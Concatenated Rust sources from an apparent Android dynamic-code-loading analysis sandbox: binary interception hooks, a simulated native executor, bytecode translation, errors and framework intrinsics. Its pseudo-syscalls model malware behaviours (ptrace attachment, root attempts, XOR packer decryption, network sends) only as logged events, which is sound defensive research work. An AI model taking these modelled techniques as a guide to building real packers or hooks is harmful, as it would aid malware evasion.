    intercepted: Vec<InterceptedBinary>,
    /// The download tracker's flow graph.
    pub flow: FlowGraph,
    hook_fires: u64,
    blocked_ops: u64,
}

impl Default for Instrumentation {
    fn default() -> Self {
        Instrumentation {
            enabled: true,
            suppress_file_ops: true,
            queue: Vec::new(),
            intercepted: Vec::new(),
            flow: FlowGraph::new(),
            hook_fires: 0,
            blocked_ops: 0,
        }
    }
}

impl Instrumentation {
    /// Creates instrumentation in the default (fully enabled) state.
    pub fn new() -> Self {
        Instrumentation::default()
    }

    /// Queues a loaded path and captures its bytes.
    pub fn intercept(&mut self, binary: InterceptedBinary) {
        if !self.enabled {
            return;
        }
        self.hook_fires += 1;
        if !self.queue.contains(&binary.path) {
            self.queue.push(binary.path.clone());
        }
        self.intercepted.push(binary);
    }

    /// Total interception-hook fires on this device. Monotonic — unlike
    /// the queue and captures, [`Instrumentation::reset`] does not clear
    /// it, so the telemetry layer can read whole-run totals.
    pub fn fire_count(&self) -> u64 {
        self.hook_fires
    }

    /// Total delete/rename operations the mutual-exclusion hook silently
    /// blocked. Monotonic, like [`Instrumentation::fire_count`].
    pub fn blocked_ops(&self) -> u64 {
        self.blocked_ops
    }

    /// Notes one silently blocked file operation (called by the device's
    /// delete/rename paths after [`Instrumentation::should_block_file_op`]
    /// decides to suppress).
    pub(crate) fn note_blocked_op(&mut self) {
        self.blocked_ops += 1;
    }

    /// Whether a delete/rename of `path` must be silently blocked.
    pub fn should_block_file_op(&self, path: &str) -> bool {
        self.enabled && self.suppress_file_ops && self.queue.iter().any(|p| p == path)
    }

    /// The queue of loaded paths, in load order.
    pub fn queued_paths(&self) -> &[String] {
        &self.queue
    }

    /// All intercepted binaries.
    pub fn intercepted(&self) -> &[InterceptedBinary] {
        &self.intercepted
    }

    /// Drains intercepted binaries (handing them to static analysis).
    pub fn take_intercepted(&mut self) -> Vec<InterceptedBinary> {
        std::mem::take(&mut self.intercepted)
    }

    /// Resets per-app state (queue, captures, flow graph).
    pub fn reset(&mut self) {
        self.queue.clear();
        self.intercepted.clear();
        self.flow.clear();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn bin(path: &str) -> InterceptedBinary {
        InterceptedBinary {
            path: path.to_string(),
            data: vec![1, 2],
            kind: DclKind::DexClassLoader,
            call_site_class: "com.ads.X".to_string(),
            package: "a".to_string(),
        }
    }

    #[test]
    fn intercept_queues_and_blocks() {
        let mut h = Instrumentation::new();
        h.intercept(bin("/data/data/a/cache/ad1.dex"));
        assert!(h.should_block_file_op("/data/data/a/cache/ad1.dex"));
        assert!(!h.should_block_file_op("/data/data/a/cache/other"));
        assert_eq!(h.intercepted().len(), 1);
    }

    #[test]
    fn disabled_instrumentation_records_nothing() {
        let mut h = Instrumentation::new();
        h.enabled = false;
        h.intercept(bin("/x"));
        assert!(h.intercepted().is_empty());
        assert!(!h.should_block_file_op("/x"));
    }

    #[test]
    fn suppression_toggle() {
        let mut h = Instrumentation::new();
        h.intercept(bin("/x"));
        h.suppress_file_ops = false;
        assert!(!h.should_block_file_op("/x"));
    }

    #[test]
    fn duplicate_paths_queued_once_but_captured_each_time() {
        let mut h = Instrumentation::new();
        h.intercept(bin("/x"));
        h.intercept(bin("/x"));
        assert_eq!(h.queued_paths().len(), 1);
        assert_eq!(h.intercepted().len(), 2);
    }

    #[test]
    fn telemetry_counters_survive_reset() {
        let mut h = Instrumentation::new();
        h.intercept(bin("/x"));
        h.intercept(bin("/x"));
        h.note_blocked_op();
        assert_eq!(h.fire_count(), 2);
        assert_eq!(h.blocked_ops(), 1);
        h.reset();
        assert_eq!(h.fire_count(), 2, "monotonic across reset");
        assert_eq!(h.blocked_ops(), 1);
        // Disabled instrumentation never counts a fire.
        h.enabled = false;
        h.intercept(bin("/y"));
        assert_eq!(h.fire_count(), 2);
    }

    #[test]
    fn take_and_reset() {
        let mut h = Instrumentation::new();
        h.intercept(bin("/x"));
        let taken = h.take_intercepted();
        assert_eq!(taken.len(), 1);
        assert!(h.intercepted().is_empty());
        // Queue survives take (the file must stay protected)...
        assert!(h.should_block_file_op("/x"));
        // ...until reset.
        h.reset();
        assert!(!h.should_block_file_op("/x"));
    }
}
