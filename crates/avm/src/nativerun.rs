//! Executor for simulated native code.
//!
//! Interprets [`dydroid_dex::NativeInsn`] bodies with 16 integer registers.
//! `Syscall` operands perform real effects against the device — this is how
//! packer decrypt stubs transform bytes on the simulated filesystem and how
//! the Chathook ptrace family attaches to its victims.
//!
//! ## Syscall reference
//!
//! | name | arg | effect | r0 result |
//! |---|---|---|---|
//! | `ptrace` | target pkg or `self` | `PtraceAttach` behaviour | 1 |
//! | `setuid` | — | `RootAttempt` behaviour | 1 |
//! | `hook` | description | `MethodHook` behaviour | 1 |
//! | `connect` | domain | none | 1 if network available |
//! | `send` | `domain:tag` | `NetSend` (needs network) | 1/0 |
//! | `xor_decrypt` | `src:dst:key` | XOR-decrypts `src` into `dst` | 1/0 |
//! | `copy` | `src:dst` | copies a file | 1/0 |
//! | `time` | — | — | device time (ms) |
//! | `location_enabled` | — | — | 1/0 |
//! | `fork` | — | none (anti-debug loop shape) | 1 |

use dydroid_dex::{NativeCond, NativeInsn};

use crate::error::Exec;
use crate::events::{BehaviorEvent, Event};
use crate::flow::FlowNode;
use crate::interp::Vm;

/// Maximum native call depth.
const MAX_NATIVE_DEPTH: usize = 16;

/// Runs the exported function `func` of `vm.proc.native_libs[lib_idx]`.
///
/// # Errors
///
/// Returns [`Exec::Throw`] when the symbol is missing and propagates fuel
/// exhaustion.
pub fn run_native(vm: &mut Vm<'_>, lib_idx: usize, func: &str) -> Result<(), Exec> {
    run_at_depth(vm, lib_idx, func, 0)
}

fn run_at_depth(vm: &mut Vm<'_>, lib_idx: usize, func: &str, depth: usize) -> Result<(), Exec> {
    if depth >= MAX_NATIVE_DEPTH {
        return Err(Exec::StackOverflow);
    }
    let code = {
        let lib = vm
            .proc
            .native_libs
            .get(lib_idx)
            .ok_or_else(|| Exec::Throw("UnsatisfiedLinkError: stale library".to_string()))?;
        lib.function(func)
            .ok_or_else(|| Exec::Throw(format!("UnsatisfiedLinkError: symbol {func}")))?
            .code
            .clone()
    };
    let mut regs = [0i64; 16];
    let mut pc = 0usize;
    loop {
        if vm.fuel == 0 {
            return Err(Exec::OutOfFuel);
        }
        vm.fuel -= 1;
        let Some(insn) = code.get(pc) else {
            return Ok(());
        };
        match insn {
            NativeInsn::Nop => pc += 1,
            NativeInsn::Const { dst, value } => {
                regs[*dst as usize % 16] = *value;
                pc += 1;
            }
            NativeInsn::Add { dst, a, b } => {
                regs[*dst as usize % 16] =
                    regs[*a as usize % 16].wrapping_add(regs[*b as usize % 16]);
                pc += 1;
            }
            NativeInsn::Call { symbol } => {
                // Local symbol: recurse. Unknown imports are no-ops.
                let is_local = vm
                    .proc
                    .native_libs
                    .get(lib_idx)
                    .map(|l| l.function(symbol).is_some())
                    .unwrap_or(false);
                if is_local {
                    let symbol = symbol.clone();
                    run_at_depth(vm, lib_idx, &symbol, depth + 1)?;
                }
                pc += 1;
            }
            NativeInsn::Syscall { name, arg } => {
                regs[0] = syscall(vm, name, arg.as_deref())?;
                pc += 1;
            }
            NativeInsn::Jump { target } => pc = *target as usize,
            NativeInsn::Branch { cond, reg, target } => {
                let v = regs[*reg as usize % 16];
                let taken = match cond {
                    NativeCond::Zero => v == 0,
                    NativeCond::NonZero => v != 0,
                };
                if taken {
                    pc = *target as usize;
                } else {
                    pc += 1;
                }
            }
            NativeInsn::Ret => return Ok(()),
        }
    }
}

fn syscall(vm: &mut Vm<'_>, name: &str, arg: Option<&str>) -> Result<i64, Exec> {
    let pkg = vm.package().to_string();
    match name {
        "ptrace" => {
            vm.device.log.push(Event::Behavior {
                behavior: BehaviorEvent::PtraceAttach {
                    target: arg.unwrap_or("self").to_string(),
                },
                package: pkg,
            });
            Ok(1)
        }
        "setuid" => {
            vm.device.log.push(Event::Behavior {
                behavior: BehaviorEvent::RootAttempt,
                package: pkg,
            });
            Ok(1)
        }
        "hook" => {
            vm.device.log.push(Event::Behavior {
                behavior: BehaviorEvent::MethodHook {
                    target: arg.unwrap_or_default().to_string(),
                },
                package: pkg,
            });
            Ok(1)
        }
        "connect" => Ok(i64::from(vm.device.network_available())),
        "send" => {
            if !vm.device.network_available() {
                return Ok(0);
            }
            let (domain, tag) = split2(arg.unwrap_or(""));
            vm.device.log.push(Event::NetSend {
                domain: domain.to_string(),
                bytes: tag.len().max(1),
                package: pkg,
            });
            Ok(1)
        }
        "xor_decrypt" => {
            let Some((src, dst, key)) = split3(arg.unwrap_or("")) else {
                return Ok(0);
            };
            let Ok(data) = vm.device.fs.read(src).map(<[u8]>::to_vec) else {
                return Ok(0);
            };
            let decrypted = xor_bytes(&data, key.as_bytes());
            if vm.device.app_write(&pkg, dst, decrypted).is_err() {
                return Ok(0);
            }
            vm.device.hooks.flow.add_edge(
                FlowNode::File(src.to_string()),
                FlowNode::File(dst.to_string()),
            );
            Ok(1)
        }
        "copy" => {
            let (src, dst) = split2(arg.unwrap_or(""));
            if src.is_empty() || dst.is_empty() {
                return Ok(0);
            }
            let Ok(data) = vm.device.fs.read(src).map(<[u8]>::to_vec) else {
                return Ok(0);
            };
            if vm.device.app_write(&pkg, dst, data).is_err() {
                return Ok(0);
            }
            vm.device.hooks.flow.add_edge(
                FlowNode::File(src.to_string()),
                FlowNode::File(dst.to_string()),
            );
            Ok(1)
        }
        "time" => Ok(vm.device.state.time_ms),
        "location_enabled" => Ok(i64::from(vm.device.state.location_enabled)),
        "fork" => Ok(1),
        _ => Ok(0),
    }
}

/// XORs `data` with `key` repeated cyclically. Applying it twice with the
/// same key is the identity, which both the packer and its stub rely on.
pub fn xor_bytes(data: &[u8], key: &[u8]) -> Vec<u8> {
    if key.is_empty() {
        return data.to_vec();
    }
    data.iter()
        .enumerate()
        .map(|(i, b)| b ^ key[i % key.len()])
        .collect()
}

fn split2(s: &str) -> (&str, &str) {
    match s.split_once(':') {
        Some((a, b)) => (a, b),
        None => (s, ""),
    }
}

fn split3(s: &str) -> Option<(&str, &str, &str)> {
    let (a, rest) = s.split_once(':')?;
    let (b, c) = rest.split_once(':')?;
    Some((a, b, c))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn xor_is_involution() {
        let data = b"the secret payload".to_vec();
        let key = b"k3y";
        let enc = xor_bytes(&data, key);
        assert_ne!(enc, data);
        assert_eq!(xor_bytes(&enc, key), data);
    }

    #[test]
    fn xor_empty_key_is_identity() {
        assert_eq!(xor_bytes(b"abc", b""), b"abc".to_vec());
    }

    #[test]
    fn splitters() {
        assert_eq!(split2("a:b"), ("a", "b"));
        assert_eq!(split2("a"), ("a", ""));
        assert_eq!(split3("a:b:c"), Some(("a", "b", "c")));
        assert_eq!(split3("a:b"), None);
    }
}
