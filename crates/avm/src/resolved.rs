//! Pre-resolved bytecode and inline caches — the fast interpreter's
//! memory layout.
//!
//! Each app method is translated exactly once, at first invoke, from its
//! string-operand [`dydroid_dex::Instruction`] stream into a compact
//! [`RInsn`] stream: names become interned [`Sym`]s, framework-vs-app
//! dispatch is decided ahead of time (framework-ness depends only on the
//! static class-name prefix, so it can never change), and every invoke /
//! field / static site is assigned a process-wide inline-cache slot. The
//! translation is 1:1 — one `RInsn` per `Instruction` — so absolute
//! branch targets and the fuel accounting are bit-identical to the
//! legacy interpreter.
//!
//! # Cache soundness
//!
//! Class spaces are append-only and class lookup is first-match in load
//! order, so a *positive* resolution (class found, method found) can
//! never change once observed — later DCL loads can only make previously
//! missing names resolvable. All caches here therefore store positive
//! results only; negative lookups are re-checked whenever the space
//! count has grown.

use std::sync::Arc;

use dydroid_dex::{AccessFlags, BinOp, CmpKind, Instruction, Method, MethodRef, Reg};

use crate::heap::Value;
use crate::sym::{Interner, Sym};

/// Sentinel for an unfilled inline-cache slot.
pub(crate) const IC_EMPTY: u32 = u32::MAX;
/// Call-site cache key for invokes whose first argument is not a heap
/// object (static calls, string/int receivers): resolution then starts
/// at the site's fixed static class, so one cache entry covers them all.
pub(crate) const IC_NO_RECEIVER: u32 = u32::MAX - 1;

/// One pre-resolved instruction. Mirrors [`Instruction`] 1:1 (same
/// program counter arithmetic, same fuel cost) with string operands
/// replaced by interned symbols and dispatch pre-decided.
#[derive(Debug, Clone)]
pub(crate) enum RInsn {
    /// No-op (also stands in for `CheckCast`, which the legacy
    /// interpreter treats as a no-op).
    Nop,
    /// Load an integer constant.
    Const { dst: Reg, value: i64 },
    /// Load a string constant.
    ConstString { dst: Reg, value: String },
    /// Load null.
    ConstNull { dst: Reg },
    /// Register copy.
    Move { dst: Reg, src: Reg },
    /// Copy the last invoke result.
    MoveResult { dst: Reg },
    /// Allocate a new object.
    NewInstance { dst: Reg, class: Sym },
    /// Invoke resolved to the framework at translation time; dispatches
    /// straight to intrinsics with the original method reference.
    InvokeFramework {
        mref: Box<MethodRef>,
        args: Box<[Reg]>,
        has_receiver: bool,
    },
    /// Invoke of an app method, with a per-site monomorphic inline cache.
    InvokeApp {
        class: Sym,
        name: Sym,
        args: Box<[Reg]>,
        has_receiver: bool,
        site: u32,
    },
    /// Instance field read with a per-site field-offset cache.
    IGet {
        dst: Reg,
        obj: Reg,
        field: Sym,
        site: u32,
    },
    /// Instance field write with a per-site field-offset cache.
    IPut {
        src: Reg,
        obj: Reg,
        field: Sym,
        site: u32,
    },
    /// Static field read with a per-site slot cache.
    SGet {
        dst: Reg,
        class: Sym,
        name: Sym,
        site: u32,
    },
    /// Static field write with a per-site slot cache.
    SPut {
        src: Reg,
        class: Sym,
        name: Sym,
        site: u32,
    },
    /// Conditional branch against zero.
    IfZero { cmp: CmpKind, reg: Reg, target: u32 },
    /// Conditional branch comparing two registers.
    IfCmp {
        cmp: CmpKind,
        a: Reg,
        b: Reg,
        target: u32,
    },
    /// Unconditional branch.
    Goto { target: u32 },
    /// Integer arithmetic.
    Arith { op: BinOp, dst: Reg, a: Reg, b: Reg },
    /// Return void.
    ReturnVoid,
    /// Return a register.
    Return { reg: Reg },
    /// Throw the value in a register.
    Throw { reg: Reg },
}

/// A method translated to the resolved stream, shared via `Arc` so hot
/// re-invokes clone a pointer, not a code vector.
#[derive(Debug)]
pub(crate) struct ResolvedMethod {
    /// Declared register-file size.
    pub registers: u16,
    /// The resolved instruction stream (same length as the source).
    pub code: Vec<RInsn>,
}

/// The cached result of resolving `(start class, method)`: either
/// translated bytecode or a native stub's name and default return.
#[derive(Debug, Clone)]
pub(crate) enum ResolvedCall {
    /// Interpreted bytecode.
    Bytecode(Arc<ResolvedMethod>),
    /// A `native`-flagged method: dispatched through the loaded
    /// libraries at call time (libraries can still be loaded later).
    Native { name: Arc<str>, ret: Value },
}

/// A monomorphic call-site cache: one remembered receiver-class key and
/// its resolved target. `key` is the receiver's runtime class sym,
/// [`IC_NO_RECEIVER`] for non-object receivers, or [`IC_EMPTY`] when the
/// site has not cached yet.
#[derive(Debug, Clone)]
pub(crate) struct CallIc {
    pub key: u32,
    /// The class pushed on the call stack for this target (the class
    /// resolution started at, exactly as the legacy path pushes it).
    pub pushed: Sym,
    pub target: Option<ResolvedCall>,
}

impl Default for CallIc {
    fn default() -> Self {
        CallIc {
            key: IC_EMPTY,
            pushed: Sym(0),
            target: None,
        }
    }
}

/// A field- or static-slot cache: the remembered slot index, or
/// [`IC_EMPTY`].
#[derive(Debug, Clone, Copy)]
pub(crate) struct SlotIc {
    pub slot: u32,
}

impl Default for SlotIc {
    fn default() -> Self {
        SlotIc { slot: IC_EMPTY }
    }
}

/// Inline-cache hit/miss counters, surfaced through the telemetry layer.
/// Static-field sites are counted with the instance-field sites.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct IcStats {
    /// Call-site cache hits.
    pub call_hits: u64,
    /// Call-site cache misses (full string resolution taken).
    pub call_misses: u64,
    /// Field/static slot cache hits.
    pub field_hits: u64,
    /// Field/static slot cache misses.
    pub field_misses: u64,
}

impl IcStats {
    /// Component-wise delta since `mark`.
    pub fn since(&self, mark: &IcStats) -> IcStats {
        IcStats {
            call_hits: self.call_hits - mark.call_hits,
            call_misses: self.call_misses - mark.call_misses,
            field_hits: self.field_hits - mark.field_hits,
            field_misses: self.field_misses - mark.field_misses,
        }
    }

    /// Component-wise accumulation.
    pub fn add(&mut self, other: &IcStats) {
        self.call_hits += other.call_hits;
        self.call_misses += other.call_misses;
        self.field_hits += other.field_hits;
        self.field_misses += other.field_misses;
    }

    /// Total hits across all cache kinds.
    pub fn hits(&self) -> u64 {
        self.call_hits + self.field_hits
    }

    /// Total misses across all cache kinds.
    pub fn misses(&self) -> u64 {
        self.call_misses + self.field_misses
    }
}

/// Per-process inline-cache tables. Sites are allocated at translation
/// time and live as long as the process, so the resolved code can refer
/// to them by dense index.
#[derive(Debug, Default)]
pub(crate) struct IcTables {
    pub calls: Vec<CallIc>,
    pub fields: Vec<SlotIc>,
    pub statics: Vec<SlotIc>,
    pub stats: IcStats,
}

impl IcTables {
    fn new_call_site(&mut self) -> u32 {
        self.calls.push(CallIc::default());
        (self.calls.len() - 1) as u32
    }

    fn new_field_site(&mut self) -> u32 {
        self.fields.push(SlotIc::default());
        (self.fields.len() - 1) as u32
    }

    fn new_static_site(&mut self) -> u32 {
        self.statics.push(SlotIc::default());
        (self.statics.len() - 1) as u32
    }
}

/// Translates one method into the resolved stream, interning names and
/// allocating inline-cache sites.
pub(crate) fn translate(
    interner: &mut Interner,
    ics: &mut IcTables,
    method: &Method,
) -> ResolvedMethod {
    let code = method
        .code
        .iter()
        .map(|insn| match insn {
            Instruction::Nop | Instruction::CheckCast { .. } => RInsn::Nop,
            Instruction::Const { dst, value } => RInsn::Const {
                dst: *dst,
                value: *value,
            },
            Instruction::ConstString { dst, value } => RInsn::ConstString {
                dst: *dst,
                value: value.clone(),
            },
            Instruction::ConstNull { dst } => RInsn::ConstNull { dst: *dst },
            Instruction::Move { dst, src } => RInsn::Move {
                dst: *dst,
                src: *src,
            },
            Instruction::MoveResult { dst } => RInsn::MoveResult { dst: *dst },
            Instruction::NewInstance { dst, class } => RInsn::NewInstance {
                dst: *dst,
                class: interner.intern(class),
            },
            Instruction::Invoke {
                kind,
                method: mref,
                args,
            } => {
                let has_receiver = kind.has_receiver();
                let args: Box<[Reg]> = args.as_slice().into();
                if crate::interp::is_framework_class(&mref.class) {
                    RInsn::InvokeFramework {
                        mref: Box::new(mref.clone()),
                        args,
                        has_receiver,
                    }
                } else {
                    RInsn::InvokeApp {
                        class: interner.intern(&mref.class),
                        name: interner.intern(&mref.name),
                        args,
                        has_receiver,
                        site: ics.new_call_site(),
                    }
                }
            }
            Instruction::IGet { dst, obj, field } => RInsn::IGet {
                dst: *dst,
                obj: *obj,
                field: interner.intern(&field.name),
                site: ics.new_field_site(),
            },
            Instruction::IPut { src, obj, field } => RInsn::IPut {
                src: *src,
                obj: *obj,
                field: interner.intern(&field.name),
                site: ics.new_field_site(),
            },
            Instruction::SGet { dst, field } => RInsn::SGet {
                dst: *dst,
                class: interner.intern(&field.class),
                name: interner.intern(&field.name),
                site: ics.new_static_site(),
            },
            Instruction::SPut { src, field } => RInsn::SPut {
                src: *src,
                class: interner.intern(&field.class),
                name: interner.intern(&field.name),
                site: ics.new_static_site(),
            },
            Instruction::IfZero { cmp, reg, target } => RInsn::IfZero {
                cmp: *cmp,
                reg: *reg,
                target: *target,
            },
            Instruction::IfCmp { cmp, a, b, target } => RInsn::IfCmp {
                cmp: *cmp,
                a: *a,
                b: *b,
                target: *target,
            },
            Instruction::Goto { target } => RInsn::Goto { target: *target },
            Instruction::BinOp { op, dst, a, b } => RInsn::Arith {
                op: *op,
                dst: *dst,
                a: *a,
                b: *b,
            },
            Instruction::ReturnVoid => RInsn::ReturnVoid,
            Instruction::Return { reg } => RInsn::Return { reg: *reg },
            Instruction::Throw { reg } => RInsn::Throw { reg: *reg },
        })
        .collect();
    debug_assert!(!method.flags.contains(AccessFlags::NATIVE));
    ResolvedMethod {
        registers: method.registers,
        code,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dydroid_dex::builder::DexBuilder;
    use dydroid_dex::{FieldRef, MethodRef};

    #[test]
    fn translation_is_one_to_one_and_pre_decides_dispatch() {
        let mut b = DexBuilder::new();
        let c = b.class("com.a.M", "java.lang.Object");
        let m = c.method("f", "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.registers(4);
        m.const_int(0, 1);
        m.sput(0, FieldRef::new("com.a.G", "v", "I"));
        m.invoke_static(
            MethodRef::new("java.lang.System", "currentTimeMillis", "()J"),
            vec![],
        );
        m.invoke_static(MethodRef::new("com.a.M", "g", "()V"), vec![]);
        m.ret_void();
        let dex = b.build();
        let method = dex.class("com.a.M").unwrap().method_by_name("f").unwrap();

        let mut interner = Interner::new();
        let mut ics = IcTables::default();
        let rm = translate(&mut interner, &mut ics, method);
        assert_eq!(rm.code.len(), method.code.len());
        assert!(matches!(rm.code[2], RInsn::InvokeFramework { .. }));
        assert!(matches!(rm.code[3], RInsn::InvokeApp { .. }));
        assert_eq!(ics.calls.len(), 1, "only the app invoke gets a call site");
        assert_eq!(ics.statics.len(), 1);
    }
}
