//! Error types of the simulated runtime.

use std::fmt;

use dydroid_dex::{ApkError, DexError};

use crate::fs::FsError;

/// Host-level errors: problems with the simulation itself (bad installs,
/// missing packages), as opposed to in-app failures which surface as
/// [`Exec`] values.
#[derive(Debug, Clone, PartialEq)]
pub enum AvmError {
    /// An APK failed to parse at install time.
    Apk(ApkError),
    /// A DEX payload failed to parse.
    Dex(DexError),
    /// A filesystem operation failed.
    Fs(FsError),
    /// The named package is not installed.
    NotInstalled(String),
    /// A package with the same name is already installed.
    AlreadyInstalled(String),
    /// The app declares no launchable activity.
    NoActivity(String),
}

impl fmt::Display for AvmError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            AvmError::Apk(e) => write!(f, "apk error: {e}"),
            AvmError::Dex(e) => write!(f, "dex error: {e}"),
            AvmError::Fs(e) => write!(f, "filesystem error: {e}"),
            AvmError::NotInstalled(pkg) => write!(f, "package not installed: {pkg}"),
            AvmError::AlreadyInstalled(pkg) => write!(f, "package already installed: {pkg}"),
            AvmError::NoActivity(pkg) => write!(f, "no launchable activity in {pkg}"),
        }
    }
}

impl std::error::Error for AvmError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            AvmError::Apk(e) => Some(e),
            AvmError::Dex(e) => Some(e),
            AvmError::Fs(e) => Some(e),
            _ => None,
        }
    }
}

impl From<ApkError> for AvmError {
    fn from(e: ApkError) -> Self {
        AvmError::Apk(e)
    }
}

impl From<DexError> for AvmError {
    fn from(e: DexError) -> Self {
        AvmError::Dex(e)
    }
}

impl From<FsError> for AvmError {
    fn from(e: FsError) -> Self {
        AvmError::Fs(e)
    }
}

/// In-app execution outcomes that abort the current entry point.
///
/// These model what happens *inside* the device: a thrown exception crashes
/// the app (Table II's "Crash" row), runaway code hits the fuel limit, and
/// both are recorded rather than propagated as host errors.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Exec {
    /// An uncaught in-app exception, e.g. `ClassNotFoundException: x.Y`.
    Throw(String),
    /// The instruction budget was exhausted (infinite loop guard).
    OutOfFuel,
    /// The call stack exceeded the depth limit.
    StackOverflow,
}

impl fmt::Display for Exec {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Exec::Throw(msg) => write!(f, "uncaught exception: {msg}"),
            Exec::OutOfFuel => write!(f, "execution budget exhausted"),
            Exec::StackOverflow => write!(f, "stack overflow"),
        }
    }
}

impl std::error::Error for Exec {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_forms() {
        assert!(AvmError::NotInstalled("a.b".into())
            .to_string()
            .contains("a.b"));
        assert!(Exec::Throw("X".into()).to_string().contains("X"));
        assert!(Exec::OutOfFuel.to_string().contains("budget"));
    }

    #[test]
    fn conversions() {
        let e: AvmError = DexError::BadMagic.into();
        assert!(matches!(e, AvmError::Dex(_)));
    }
}
