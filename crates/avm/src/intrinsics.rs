//! Framework API intrinsics.
//!
//! Every invoke whose class lives in a platform namespace (`java.*`,
//! `android.*`, `dalvik.*`, …) dispatches here. The instrumented APIs are
//! exactly those DyDroid modifies (Section IV of the paper):
//!
//! - constructors of `DexClassLoader`/`PathClassLoader` and the JNI
//!   `load()`/`loadLibrary()` — the **DCL logger** and **interceptor**;
//! - delete/rename in `java.io.File` — **mutual exclusion** for queued
//!   binaries;
//! - `URL`, `URLConnection.getInputStream()` and the stream/buffer
//!   read/write methods — the **download tracker** (Table I);
//!
//! plus the privacy-source APIs of Table X and the behaviour sinks used to
//! verify malware families. Unmodeled framework methods are no-ops
//! returning null/zero, which keeps hostile inputs from crashing the
//! harness.

use dydroid_dex::{DexFile, MethodRef, NativeLibrary};

use crate::error::Exec;
use crate::events::{BehaviorEvent, DclEvent, DclKind, Event, FileOp};
use crate::flow::FlowNode;
use crate::heap::{IntrinsicState, ObjId, StreamSink, StreamSource, Value};
use crate::hooks::InterceptedBinary;
use crate::interp::Vm;
use crate::net::split_url;
use crate::paths;

/// Canned device identifiers returned by the privacy sources.
pub mod canned {
    /// IMEI returned by `TelephonyManager.getDeviceId`.
    pub const IMEI: &str = "353918052339761";
    /// IMSI returned by `TelephonyManager.getSubscriberId`.
    pub const IMSI: &str = "310260000000000";
    /// ICCID returned by `TelephonyManager.getSimSerialNumber`.
    pub const ICCID: &str = "8901260000000000000";
    /// Phone number returned by `TelephonyManager.getLine1Number`.
    pub const LINE1: &str = "+15555550100";
    /// Device account returned by `AccountManager.getAccounts`.
    pub const ACCOUNT: &str = "user@example.com";
    /// Location fix returned by `LocationManager.getLastKnownLocation`.
    pub const LOCATION: &str = "42.0565,-87.6753";
}

fn io_error(msg: impl Into<String>) -> Exec {
    Exec::Throw(format!("IOException: {}", msg.into()))
}

fn str_arg(args: &[Value], i: usize, what: &str) -> Result<String, Exec> {
    args.get(i)
        .and_then(|v| v.as_str())
        .map(str::to_string)
        .ok_or_else(|| Exec::Throw(format!("IllegalArgumentException: expected string {what}")))
}

fn obj_arg(args: &[Value], i: usize, what: &str) -> Result<ObjId, Exec> {
    args.get(i)
        .and_then(|v| v.as_obj())
        .ok_or_else(|| Exec::Throw(format!("NullPointerException: {what}")))
}

/// Dispatches a framework call. Returns the call's result value.
///
/// # Errors
///
/// Returns [`Exec`] for in-app failures (IOExceptions on missing files or
/// unavailable network, link errors, class-not-found).
pub fn dispatch(vm: &mut Vm<'_>, mref: &MethodRef, args: &[Value]) -> Result<Value, Exec> {
    let class = mref.class.as_str();
    let name = mref.name.as_str();
    match (class, name) {
        // ------------------------------------------------------------------
        // Fault-injection hook: a framework method that panics the harness
        // itself (not the app). The fault-tolerance suite plants calls to
        // it to prove the sweep isolates analyzer panics; nothing in the
        // regular corpus references this class.
        // ------------------------------------------------------------------
        ("android.os.HarnessFault", "panic") => {
            panic!(
                "injected harness fault: HarnessFault.panic() in {}",
                vm.package()
            );
        }
        // ------------------------------------------------------------------
        // Dynamic code loading: the instrumented constructors and JNI APIs.
        // ------------------------------------------------------------------
        ("dalvik.system.DexClassLoader", "<init>") => {
            let this = obj_arg(args, 0, "DexClassLoader")?;
            let dex_path = str_arg(args, 1, "dexPath")?;
            let odex_dir = args
                .get(2)
                .and_then(|v| v.as_str())
                .map(str::to_string)
                .unwrap_or_else(|| paths::odex_dir(vm.package()));
            dex_load(vm, this, &dex_path, &odex_dir, DclKind::DexClassLoader)?;
            Ok(Value::Null)
        }
        ("dalvik.system.PathClassLoader", "<init>") => {
            let this = obj_arg(args, 0, "PathClassLoader")?;
            let dex_path = str_arg(args, 1, "dexPath")?;
            let odex = paths::odex_dir(vm.package());
            dex_load(vm, this, &dex_path, &odex, DclKind::PathClassLoader)?;
            Ok(Value::Null)
        }
        // Extension: Grab'n-Run-style verified loading (Falsina et al.,
        // ACSAC'15 — the mitigation the paper cites for its Table IX
        // code-injection findings). The constructor takes the expected
        // CRC-32 of the file; a tampered file raises a SecurityException
        // instead of executing attacker code.
        ("dalvik.system.SecureDexClassLoader", "<init>") => {
            let this = obj_arg(args, 0, "SecureDexClassLoader")?;
            let dex_path = str_arg(args, 1, "dexPath")?;
            let odex_dir = args
                .get(2)
                .and_then(|v| v.as_str())
                .map(str::to_string)
                .unwrap_or_else(|| paths::odex_dir(vm.package()));
            let expected = args.get(3).and_then(Value::as_int).ok_or_else(|| {
                Exec::Throw("IllegalArgumentException: expected checksum".to_string())
            })? as u32;
            let actual = vm
                .device
                .fs
                .read(&dex_path)
                .map(dydroid_dex::checksum::crc32)
                .map_err(|e| io_error(e.to_string()))?;
            if actual != expected {
                // Log the refused load so the measurement sees it.
                let pkg = vm.package().to_string();
                let call_site = vm.caller_class().to_string();
                let stack = vm.stack_trace();
                vm.device.log.push(Event::Dcl(DclEvent {
                    kind: DclKind::DexClassLoader,
                    path: dex_path.clone(),
                    odex_dir: Some(odex_dir),
                    call_site_class: call_site,
                    stack,
                    package: pkg,
                    success: false,
                }));
                return Err(Exec::Throw(format!(
                    "SecurityException: checksum mismatch for {dex_path} \
                     (expected {expected:#010x}, found {actual:#010x})"
                )));
            }
            dex_load(vm, this, &dex_path, &odex_dir, DclKind::DexClassLoader)?;
            Ok(Value::Null)
        }
        (
            "dalvik.system.DexClassLoader"
            | "dalvik.system.PathClassLoader"
            | "dalvik.system.SecureDexClassLoader"
            | "java.lang.ClassLoader",
            "loadClass",
        ) => {
            let this = obj_arg(args, 0, "ClassLoader")?;
            let cls = str_arg(args, 1, "className")?;
            load_class(vm, this, &cls)
        }
        ("java.lang.System" | "java.lang.Runtime", "loadLibrary") => {
